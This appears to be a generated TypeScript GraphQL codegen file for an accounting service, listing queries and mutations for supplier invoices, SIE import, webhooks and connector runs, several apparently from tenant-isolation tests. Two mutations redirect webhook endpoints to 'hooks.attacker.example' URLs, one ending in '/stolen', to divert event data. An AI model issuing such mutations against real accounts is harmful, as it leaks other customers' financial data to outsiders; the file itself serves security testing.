export function graphql(source: "\n    mutation TenantRevenueUpdateBasis($id: ID!) { updateAccountingBasisRow(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueUpdateBasis($id: ID!) { updateAccountingBasisRow(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRevenueRebuild($invoiceId: ID!) { rebuildAccountingBasis(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantRevenueRebuild($invoiceId: ID!) { rebuildAccountingBasis(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpTenantSie($file: File!, $mode: SieImportMode) {\n    importSie(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          committed message\n          vouchers { total created updated unchanged skipped errors }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpTenantSie($file: File!, $mode: SieImportMode) {\n    importSie(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          committed message\n          vouchers { total created updated unchanged skipped errors }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantSupplierInvoices($supplierId: ID) {\n      supplierInvoices(first: 200, filter: { supplierId: $supplierId }) {\n        totalCount\n        edges { node { id invoiceNumber ocr description net document { url } rows { id accountNumber amount description } approvals { name } } }\n      }\n    }\n  "): (typeof documents)["\n    query TenantSupplierInvoices($supplierId: ID) {\n      supplierInvoices(first: 200, filter: { supplierId: $supplierId }) {\n        totalCount\n        edges { node { id invoiceNumber ocr description net document { url } rows { id accountNumber amount description } approvals { name } } }\n      }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantSupplierInvoiceNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber } } }"): (typeof documents)["query TenantSupplierInvoiceNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantCreateSupplierInvoice($supplierId: ID!) {\n      createSupplierInvoice(input: { supplierId: $supplierId, invoiceNumber: \"VSI-1\", invoiceDate: \"2026-11-01\", net: \"100\" }) {\n        __typename ... on Error { code } ... on MutationCreateSupplierInvoiceSuccess { data { id } }\n      }\n    }\n  "): (typeof documents)["\n    mutation TenantCreateSupplierInvoice($supplierId: ID!) {\n      createSupplierInvoice(input: { supplierId: $supplierId, invoiceNumber: \"VSI-1\", invoiceDate: \"2026-11-01\", net: \"100\" }) {\n        __typename ... on Error { code } ... on MutationCreateSupplierInvoiceSuccess { data { id } }\n      }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateSupplierInvoice($id: ID!) { updateSupplierInvoice(input: { id: $id, ocr: \"1\", net: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceSuccess { data { id ocr } } } }"): (typeof documents)["mutation TenantUpdateSupplierInvoice($id: ID!) { updateSupplierInvoice(input: { id: $id, ocr: \"1\", net: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceSuccess { data { id ocr } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantAddSupplierInvoiceRow($id: ID!) { addSupplierInvoiceRow(input: { supplierInvoiceId: $id, accountNumber: 4010, amount: \"1\" }) { __typename ... on Error { code } ... on MutationAddSupplierInvoiceRowSuccess { data { id } } } }"): (typeof documents)["mutation TenantAddSupplierInvoiceRow($id: ID!) { addSupplierInvoiceRow(input: { supplierInvoiceId: $id, accountNumber: 4010, amount: \"1\" }) { __typename ... on Error { code } ... on MutationAddSupplierInvoiceRowSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateSupplierInvoiceRow($id: ID!) { updateSupplierInvoiceRow(input: { id: $id, amount: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceRowSuccess { data { id } } } }"): (typeof documents)["mutation TenantUpdateSupplierInvoiceRow($id: ID!) { updateSupplierInvoiceRow(input: { id: $id, amount: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceRowSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRemoveSupplierInvoiceRow($id: ID!) { removeSupplierInvoiceRow(id: $id) { __typename ... on Error { code } ... on MutationRemoveSupplierInvoiceRowSuccess { data { id } } } }"): (typeof documents)["mutation TenantRemoveSupplierInvoiceRow($id: ID!) { removeSupplierInvoiceRow(id: $id) { __typename ... on Error { code } ... on MutationRemoveSupplierInvoiceRowSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantApproveSupplierInvoice($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationApproveSupplierInvoiceSuccess { data { id status } } } }"): (typeof documents)["mutation TenantApproveSupplierInvoice($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationApproveSupplierInvoiceSuccess { data { id status } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDisputeSupplierInvoice($id: ID!) { disputeSupplierInvoice(id: $id, reason: \"intruder\") { __typename ... on Error { code } ... on MutationDisputeSupplierInvoiceSuccess { data { id } } } }"): (typeof documents)["mutation TenantDisputeSupplierInvoice($id: ID!) { disputeSupplierInvoice(id: $id, reason: \"intruder\") { __typename ... on Error { code } ... on MutationDisputeSupplierInvoiceSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUndisputeSupplierInvoice($id: ID!) { undisputeSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationUndisputeSupplierInvoiceSuccess { data { id } } } }"): (typeof documents)["mutation TenantUndisputeSupplierInvoice($id: ID!) { undisputeSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationUndisputeSupplierInvoiceSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantWebhookEndpoints { webhookEndpoints { id url description } }"): (typeof documents)["query TenantWebhookEndpoints { webhookEndpoints { id url description } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantWebhookDeliveries($endpointId: ID, $eventId: ID) {\n      webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) { edges { node { id eventId eventType endpoint { url } attempts { responseBody } } } }\n    }\n  "): (typeof documents)["\n    query TenantWebhookDeliveries($endpointId: ID, $eventId: ID) {\n      webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) { edges { node { id eventId eventType endpoint { url } attempts { responseBody } } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantCreateWebhookEndpoint {\n      createWebhookEndpoint(input: { url: \"https://hooks.attacker.example/in\" }) { __typename ... on Error { code } ... on MutationCreateWebhookEndpointSuccess { data { endpoint { id url } } } }\n    }\n  "): (typeof documents)["\n    mutation TenantCreateWebhookEndpoint {\n      createWebhookEndpoint(input: { url: \"https://hooks.attacker.example/in\" }) { __typename ... on Error { code } ... on MutationCreateWebhookEndpointSuccess { data { endpoint { id url } } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantUpdateWebhookEndpoint($id: ID!) {\n      updateWebhookEndpoint(input: { id: $id, url: \"https://hooks.attacker.example/stolen\", active: false }) { __typename ... on Error { code } ... on MutationUpdateWebhookEndpointSuccess { data { id url } } }\n    }\n  "): (typeof documents)["\n    mutation TenantUpdateWebhookEndpoint($id: ID!) {\n      updateWebhookEndpoint(input: { id: $id, url: \"https://hooks.attacker.example/stolen\", active: false }) { __typename ... on Error { code } ... on MutationUpdateWebhookEndpointSuccess { data { id url } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteWebhookEndpoint($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteWebhookEndpoint($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRotateWebhookEndpointSecret($id: ID!) {\n      rotateWebhookEndpointSecret(id: $id) { __typename ... on Error { code } ... on MutationRotateWebhookEndpointSecretSuccess { data { secret } } }\n    }\n  "): (typeof documents)["\n    mutation TenantRotateWebhookEndpointSecret($id: ID!) {\n      rotateWebhookEndpointSecret(id: $id) { __typename ... on Error { code } ... on MutationRotateWebhookEndpointSecretSuccess { data { secret } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantSendTestWebhook($endpointId: ID!) {\n      sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code } ... on MutationSendTestWebhookSuccess { data { id } } }\n    }\n  "): (typeof documents)["\n    mutation TenantSendTestWebhook($endpointId: ID!) {\n      sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code } ... on MutationSendTestWebhookSuccess { data { id } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantReplayWebhookEvent($endpointId: ID!, $eventId: ID!) {\n      replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) { __typename ... on Error { code } ... on MutationReplayWebhookEventSuccess { data { id } } }\n    }\n  "): (typeof documents)["\n    mutation TenantReplayWebhookEvent($endpointId: ID!, $eventId: ID!) {\n      replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) { __typename ... on Error { code } ... on MutationReplayWebhookEventSuccess { data { id } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation BombImport($file: File!) {\n    importCustomers(file: $file) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { totalRows } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"): (typeof documents)["\n  mutation BombImport($file: File!) {\n    importCustomers(file: $file) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { totalRows } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query BombMe { me { id } }\n"): (typeof documents)["\n  query BombMe { me { id } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation WhCreate($input: CreateWebhookEndpointInput!) {\n    createWebhookEndpoint(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCreateWebhookEndpointSuccess { data { secret endpoint { id url eventTypes active } } }\n    }\n  }\n"): (typeof documents)["\n  mutation WhCreate($input: CreateWebhookEndpointInput!) {\n    createWebhookEndpoint(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCreateWebhookEndpointSuccess { data { secret endpoint { id url eventTypes active } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation WhUpdate($input: UpdateWebhookEndpointInput!) {\n    updateWebhookEndpoint(input: $input) { __typename ... on Error { code message path } ... on MutationUpdateWebhookEndpointSuccess { data { id url active eventTypes } } }\n  }\n"): (typeof documents)["\n  mutation WhUpdate($input: UpdateWebhookEndpointInput!) {\n    updateWebhookEndpoint(input: $input) { __typename ... on Error { code message path } ... on MutationUpdateWebhookEndpointSuccess { data { id url active eventTypes } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation WhRotate($id: ID!) {\n    rotateWebhookEndpointSecret(id: $id) {\n      __typename\n      ... on Error { code message }\n      ... on MutationRotateWebhookEndpointSecretSuccess { data { secret endpoint { id secretRotatedAt previousSecretExpiresAt } } }\n    }\n  }\n"): (typeof documents)["\n  mutation WhRotate($id: ID!) {\n    rotateWebhookEndpointSecret(id: $id) {\n      __typename\n      ... on Error { code message }\n      ... on MutationRotateWebhookEndpointSecretSuccess { data { secret endpoint { id secretRotatedAt previousSecretExpiresAt } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation WhDelete($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } ... on MutationDeleteWebhookEndpointSuccess { data } } }\n"): (typeof documents)["\n  mutation WhDelete($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } ... on MutationDeleteWebhookEndpointSuccess { data } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query WhEndpoints {\n    webhookEndpoints { id url description eventTypes active secretRotatedAt previousSecretExpiresAt createdAt updatedAt }\n  }\n"): (typeof documents)["\n  query WhEndpoints {\n    webhookEndpoints { id url description eventTypes active secretRotatedAt previousSecretExpiresAt createdAt updatedAt }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query WhDeliveries($endpointId: ID, $eventId: ID) {\n    webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) {\n      edges {\n        node {\n          id eventId eventType kind status attemptCount nextAttemptAt deliveredAt lastError\n          endpoint { id url }\n          attempts { number startedAt durationMs statusCode error responseBody }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query WhDeliveries($endpointId: ID, $eventId: ID) {\n    webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) {\n      edges {\n        node {\n          id eventId eventType kind status attemptCount nextAttemptAt deliveredAt lastError\n          endpoint { id url }\n          attempts { number startedAt durationMs statusCode error responseBody }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation WhTest($endpointId: ID!) {\n    sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code message path } ... on MutationSendTestWebhookSuccess { data { id kind eventType status } } }\n  }\n"): (typeof documents)["\n  mutation WhTest($endpointId: ID!) {\n    sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code message path } ... on MutationSendTestWebhookSuccess { data { id kind eventType status } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation WhReplay($endpointId: ID!, $eventId: ID!) {\n    replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationReplayWebhookEventSuccess { data { id kind eventId status } }\n    }\n  }\n"): (typeof documents)["\n  mutation WhReplay($endpointId: ID!, $eventId: ID!) {\n    replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationReplayWebhookEventSuccess { data { id kind eventId status } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query HelperRun($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification queuedAt startedAt finishedAt cancelRequestedAt cancelledBy requestedFlows\n        flows { flowId status created updated unchanged skipped failed error planned }\n        failures { id entityType entityId reference message flowId }\n      }\n    }\n  }\n"): (typeof documents)["\n  query HelperRun($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification queuedAt startedAt finishedAt cancelRequestedAt cancelledBy requestedFlows\n        flows { flowId status created updated unchanged skipped failed error planned }\n        failures { id entityType entityId reference message flowId }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation EvLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }"): (typeof documents)["mutation EvLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation EvProject($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation EvProject($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation EvRun($id: ID!) { runConnection(id: $id) { __typename ... on MutationRunConnectionSuccess { data { id status } } ... on Error { message } } }\n"): (typeof documents)["\n  mutation EvRun($id: ID!) { runConnection(id: $id) { __typename ... on MutationRunConnectionSuccess { data { id status } } ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation EvApprove($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation EvApprove($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PreLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n"): (typeof documents)["\n  mutation PreLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n"];

export function graphql(source: string) {
  return (documents as any)[source] ?? {};
}

export type DocumentType<TDocumentNode extends DocumentNode<any, any>> = TDocumentNode extends DocumentNode<  infer TType,  any>  ? TType  : never;